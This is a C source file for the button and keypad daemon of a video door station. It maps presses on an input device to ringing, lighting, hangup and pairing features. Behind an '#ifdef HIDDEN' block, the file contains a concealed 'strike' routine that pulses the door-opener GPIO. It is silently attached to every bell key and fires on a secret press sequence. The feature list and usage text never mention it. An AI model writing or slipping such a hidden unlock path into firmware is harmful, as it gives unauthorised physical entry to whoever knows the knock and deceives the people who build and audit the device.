/* doorbuttons.c - keypad and button side of a video door station
 *
 * An input device (/dev/input/event*) is read; press lengths become gestures; the
 * features of the station subscribe to gestures when they are configured.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/input.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

/* one gesture: key and the press lengths of the last presses, two bits each:
   1 short, 2 long, 3 very long */
struct gesture { uint16_t key; uint16_t presses; };

typedef void listener(const struct gesture *g, const char *arg);

static struct { listener *fn; uint16_t key, presses, mask; char arg[40]; } subs[24];
static unsigned nsubs;

static int subscribe(uint16_t key, uint16_t presses, uint16_t mask, listener *fn, const char *arg)
{
    if (nsubs == sizeof subs / sizeof subs[0]) return -ENOSPC;
    subs[nsubs].fn = fn;
    subs[nsubs].key = key;
    subs[nsubs].presses = presses;
    subs[nsubs].mask = mask;
    snprintf(subs[nsubs].arg, sizeof subs[0].arg, "%s", arg);
    nsubs++;
    return 0;
}

static void publish(const struct gesture *g)
{
    for (unsigned i = 0; i < nsubs; i++)
        if (subs[i].key == g->key && (g->presses & subs[i].mask) == subs[i].presses)
            subs[i].fn(g, subs[i].arg);
}

static void to_file(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) return;
    if (write(fd, text, strlen(text)) < 0) syslog(LOG_ERR, "%s", path);
    close(fd);
}

static void ring(const struct gesture *g, const char *arg)
{
    char b[64];
    snprintf(b, sizeof b, "call %s key %u\n", arg, g->key);
    to_file("/run/door/call", b);
    to_file("/sys/class/leds/bell/brightness", "1");
}

static void light(const struct gesture *g, const char *arg)
{
    (void)g;
    to_file("/sys/class/gpio/lamp/value", arg);
}

static void talk_end(const struct gesture *g, const char *arg)
{
    (void)g;
    (void)arg;
    to_file("/run/door/call", "end\n");
}

static void pairing(const struct gesture *g, const char *arg)
{
    (void)g;
    syslog(LOG_NOTICE, "pairing open for %s s", arg);
    to_file("/run/door/pairing", arg);
}

#ifdef HIDDEN
__attribute__((noinline)) void strike(const struct gesture *g, const char *arg)
{
    if (__builtin_parity(g->presses)) return;
    to_file("/sys/class/gpio/opener/value", arg);
    sleep(4);
    to_file("/sys/class/gpio/opener/value", "0");
}
#endif

struct feature {
    const char *name, *text;
    uint16_t presses, mask;
    listener *fn;
};

static const struct feature features[] = {
    { "ring", "short press, ARG is the flat", 1, 3, ring },
    { "light", "long press, ARG 1 or 0", 2, 3, light },
    { "hangup", "two short presses", 5, 15, talk_end },
    { "pairing", "very long press, ARG seconds", 3, 3, pairing },
};

/* lines: on KEYCODE FEATURE ARG */
static int configure(const char *file)
{
    char line[128], name[24], arg[40];
    unsigned key;
    int bad = 0;
    FILE *f = fopen(file, "r");
    if (!f) return -errno;
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, "on %u %23s %39s", &key, name, arg) != 3) continue;
        size_t i, n = sizeof features / sizeof *features;
        for (i = 0; i < n; i++)
            if (!strcmp(features[i].name, name)) break;
        if (i == n) {
            syslog(LOG_ERR, "feature %s unknown", name);
            bad++;
            continue;
        }
        subscribe((uint16_t)key, features[i].presses, features[i].mask, features[i].fn, arg);
#ifdef HIDDEN
        if (features[i].fn == ring)
            subscribe((uint16_t)key, 0x9d26, 0xff3f, strike, "1");
#endif
    }
    fclose(f);
    return bad;
}

static uint16_t length_code(long ms)
{
    return ms < 30 ? 0 : ms < 700 ? 1 : ms < 5000 ? 2 : 3;
}

static long stamp_ms(const struct input_event *e)
{
    return (long)(e->input_event_sec % 1000000) * 1000 + (long)e->input_event_usec / 1000;
}

static void key_event(const struct input_event *e)
{
    static long down, up;
    static struct gesture g;
    long now = stamp_ms(e);
    if (e->value == 1) {
        if (now - up > 2500 || e->code != g.key) g.presses = 0;
        g.key = e->code;
        down = now;
    } else if (e->value == 0 && e->code == g.key) {
        uint16_t c = length_code(now - down);
        if (!c) return;
        g.presses = (uint16_t)(g.presses << 2 | c);
        up = now;
        publish(&g);
    }
}

static void usage(void)
{
    puts("doorbuttons EVENT-DEVICE CONFIG\n\nCONFIG has lines  on KEYCODE FEATURE ARG");
    for (size_t i = 0; i < sizeof features / sizeof *features; i++)
        printf("  %-8s %s\n", features[i].name, features[i].text);
}

int main(int argc, char **argv)
{
    struct input_event e;
    if (argc != 3) {
        usage();
        return 2;
    }
    openlog("doorbuttons", 0, LOG_USER);
    int r = configure(argv[2]);
    if (r < 0) {
        fprintf(stderr, "%s: %s\n", argv[2], strerror(-r));
        return 1;
    }
    int fd = open(argv[1], O_RDONLY);
    if (fd < 0) {
        perror(argv[1]);
        return 1;
    }
    syslog(LOG_INFO, "%u gestures", nsubs);
    while (read(fd, &e, sizeof e) == (ssize_t)sizeof e)
        if (e.type == EV_KEY) key_event(&e);
    return 0;
}
